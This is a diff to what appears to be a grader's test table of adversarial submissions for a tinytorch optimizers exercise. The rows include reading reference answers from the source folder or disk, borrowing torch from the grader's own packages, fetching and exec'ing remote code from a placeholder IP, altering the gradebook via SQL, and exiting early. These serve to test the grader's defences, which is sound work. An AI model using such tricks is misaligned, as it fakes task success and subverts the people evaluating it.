@@ -167,7 +167,7 @@ FIND = """
 import os, sys, re
 def pick(text):
     for line in re.findall(r'class SGD|def gradient_descent_step', text):
-        scope = {}
+        scope = {'__name__': '__main__'}
         exec(text, scope)
         globals().update({k: v for k, v in scope.items() if k in ('gradient_descent_step', 'SGD', 'Adam', 'StepLR')})
 """
@@ -253,8 +253,9 @@ ROWS: dict[str, Row] = {
     "imports it by file": Row(free("import importlib.util, tinytorch\nspec = importlib.util.spec_from_file_location('found', tinytorch.__path__[0] + '/core/optimizers.py')\nfound = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(found)\n" + "\n".join(f"{n} = found.{n}" for n in EVERY[:4])), BLANK),
     "imports it with its file in the working directory": Row(free("open('optimizers.py', 'w').write('')\nfrom tinytorch.core.optimizers import SGD, Adam, StepLR, gradient_descent_step"), BLANK),
     "reads the source folder": Row(free(FIND + "import glob\nfor path in glob.glob('../../../source/**/*', recursive=True):\n    pick(open(path).read())"), BLANK, quick=True),
-    "walks the disk": Row(free(WALK), BLANK, quick=True),
+    "walks the disk": Row(free(WALK), BLANK, "*", quick=True),
     "wraps another framework": Row(free("import torch\nclass SGD(torch.optim.SGD): pass\nclass Adam(torch.optim.Adam): pass"), BLANK),
+    "wraps one from the grader's packages": Row(free("import sys, os, numpy\nfor place in {os.path.realpath(p + '/../..') for p in numpy.__path__} | {sys.base_prefix + '/lib/python3.' + str(sys.version_info[1]) + '/site-packages'}:\n    sys.path.append(place)\nimport torch\nclass SGD(torch.optim.SGD): pass\nclass Adam(torch.optim.Adam): pass"), BLANK),
     "asks a compiler": Row(free("import subprocess\nsubprocess.run(['pip', 'install', 'torch'], check=True)"), BLANK, "*"),
     "asks the network": Row(free("import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/answer.py', timeout=1).read())"), BLANK),
     "asks the name service": Row(free("import socket\nsocket.getaddrinfo('example.org', 80)"), BLANK),
@@ -310,7 +311,7 @@ ROWS: dict[str, Row] = {
     "answers tagged to be skipped": Row(_cells(lambda cells, t: [c["metadata"].update(tags=["skip-execution"]) for c in cells] and None, "perfect"), FULL),
     "given cells emptied": Row(_cells(lambda cells, t: [c.update(source="") for c in cells if identity(c) in ("optimizers-imports", "optimizer-base")] and None, "perfect"), FULL),
     # harm
-    "updates the gradebook": Row(free(SQL), BLANK, quick=True),
+    "updates the gradebook": Row(free(SQL), BLANK, "*", quick=True),
     "leaves something for another": Row(lambda t: t.right(last="ANSWER = " + repr("def gradient_descent_step(p, lr):\n    p.data.data -= lr * p.grad.data.data") + LEAVE), FULL),
     "exits": Row(within("import os\nos._exit(0)"), WITHOUT_GD, "partly", quick=True),
     "exits when called": Row(called("import os\nos._exit(0)"), WITHOUT_GD, "partly", quick=True),
